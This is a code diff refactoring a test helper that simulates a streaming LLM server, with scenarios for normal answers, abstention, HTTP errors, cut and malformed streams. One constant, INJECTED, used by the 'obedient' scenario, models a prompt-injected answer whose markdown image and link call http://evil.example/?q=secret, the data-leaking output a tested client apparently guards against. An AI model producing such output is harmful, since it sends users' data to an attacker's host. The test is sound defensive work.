@@ -3,8 +3,6 @@
 The normal answer cites [1] and [2] with words of the passages it received.
 """
 
-from __future__ import annotations
-
 import contextlib
 import json
 import re
@@ -20,6 +18,7 @@ from tests.scripted_server import Script, ScriptedHandler, ScriptedServer, runni
 _PASSAGE = re.compile(r"<<<PASSAGE \[(\d+)\][^\n]*\n(.*?)\n<<<END \[\1\]>>>", re.DOTALL)
 _WORD = re.compile(r"[\w-]+")
 ABSTENTION = "The passages do not answer this question."
+FAILED = b'data: {"error": {"message": "the graphics card is full"}}\n\n'
 INJECTED = "![x](http://evil.example/?q=secret) [here](http://evil.example) <img src=x> done [1]."
 
 
@@ -55,7 +54,7 @@ class LlmScript(Script):
 
 
 class _Handler(ScriptedHandler):
-    server: LlmServer
+    server: "LlmServer"
 
     @property
     def script(self) -> LlmScript:
@@ -115,20 +114,31 @@ class _Handler(ScriptedHandler):
                     raise ConnectionResetError
 
 
+Scenario = Callable[[_Handler, dict[str, Any]], None]
+
+
 def _normal(handler: _Handler, body: dict[str, Any]) -> None:
     handler._open()
     handler._words(handler.script.text or normal_answer(body))
     handler._end()
 
 
-def _obedient(handler: _Handler, body: dict[str, Any]) -> None:
-    """What a model would write that obeys an instruction to fetch a picture."""
-    handler._open()
-    handler._words(INJECTED)
-    handler._end()
+def _says(
+    words: str = "", raw: bytes = b"", end: str = "", kind: str = "text/event-stream"
+) -> Scenario:
+    """Words, then raw bytes; without a reason for its end the stream only stops, in good form."""
+
+    def play(handler: _Handler, _: dict[str, Any]) -> None:
+        handler._open(kind)
+        handler._words(words)
+        if raw:
+            handler._raw(raw)
+        handler._end(end) if end else handler._raw(b"")
+
+    return play
 
 
-def _status(code: int, message: str, **headers: str) -> Callable[[_Handler, dict[str, Any]], None]:
+def _status(code: int, message: str, **headers: str) -> Scenario:
     return lambda handler, _: handler._status(code, message, **headers)
 
 
@@ -200,25 +210,6 @@ def _cut(handler: _Handler, body: dict[str, Any]) -> None:
     handler.connection.shutdown(2)
 
 
-def _cut_quietly(handler: _Handler, _: dict[str, Any]) -> None:
-    """The stream ends in good form, but the model never said that it was done."""
-    handler._open()
-    handler._words("Half an")
-    handler._raw(b"")
-
-
-def _length(handler: _Handler, _: dict[str, Any]) -> None:
-    handler._open()
-    handler._words("As long as allowed")
-    handler._end("length")
-
-
-def _filtered(handler: _Handler, _: dict[str, Any]) -> None:
-    handler._open()
-    handler._words("As far as")
-    handler._end("content_filter")
-
-
 def _hang(handler: _Handler, _: dict[str, Any]) -> None:
     handler._wait()
 
@@ -236,47 +227,10 @@ def _drip(handler: _Handler, _: dict[str, Any]) -> None:
         handler._event("drip ")
 
 
-def _malformed(handler: _Handler, _: dict[str, Any]) -> None:
-    handler._open()
-    handler._raw(b"data: {not json\n\n")
-    handler._raw(b"")
-
-
-def _strange(handler: _Handler, _: dict[str, Any]) -> None:
-    handler._open()
-    handler._raw(b'data: {"choices": "none"}\n\n')
-    handler._raw(b"")
-
-
-def _mid_error(handler: _Handler, _: dict[str, Any]) -> None:
-    handler._open()
-    handler._words("It begins")
-    handler._raw(b'data: {"error": {"message": "the graphics card is full"}}\n\n')
-    handler._raw(b"")
-
-
-def _page(handler: _Handler, _: dict[str, Any]) -> None:
-    """A web page where an API was expected."""
-    handler._open("text/html")
-    handler._raw(b"<html><body>Welcome</body></html>")
-    handler._raw(b"")
-
-
-def _empty(handler: _Handler, _: dict[str, Any]) -> None:
-    handler._open()
-    handler._end()
-
-
-def _abstain(handler: _Handler, _: dict[str, Any]) -> None:
-    handler._open()
-    handler._words(ABSTENTION)
-    handler._end()
-
-
-SCENARIOS: dict[str, Callable[[_Handler, dict[str, Any]], None]] = {
+SCENARIOS: dict[str, Scenario] = {
     "normal": _normal,
-    "abstain": _abstain,
-    "obedient": _obedient,
+    "abstain": _says(ABSTENTION, end="stop"),
+    "obedient": _says(INJECTED, end="stop"),
     "unauthorized": _status(401, "Incorrect API key"),
     "forbidden": _status(403, "not for you"),
     "not_found": _status(404, "model 'test' not found, try pulling it first"),
@@ -294,17 +248,19 @@ SCENARIOS: dict[str, Callable[[_Handler, dict[str, Any]], None]] = {
     "never_closed": _never_closed,
     "in_parts": _in_parts,
     "cut": _cut,
-    "cut_quietly": _cut_quietly,
-    "length": _length,
-    "filtered": _filtered,
+    "cut_quietly": _says("Half an"),
+    "length": _says("As long as allowed", end="length"),
+    "filtered": _says("As far as", end="content_filter"),
     "hang": _hang,
     "stall": _stall,
     "drip": _drip,
-    "malformed": _malformed,
-    "strange": _strange,
-    "mid_error": _mid_error,
-    "page": _page,
-    "empty": _empty,
+    "malformed": _says(raw=b"data: {not json\n\n"),
+    "strange": _says(raw=b'data: {"choices": "none"}\n\n'),
+    "mid_error": _says(
+        "It begins", b'data: {"error": {"message": "the graphics card is full"}}\n\n'
+    ),
+    "page": _says(raw=b"<html><body>Welcome</body></html>", kind="text/html"),
+    "empty": _says(end="stop"),
 }
 
 
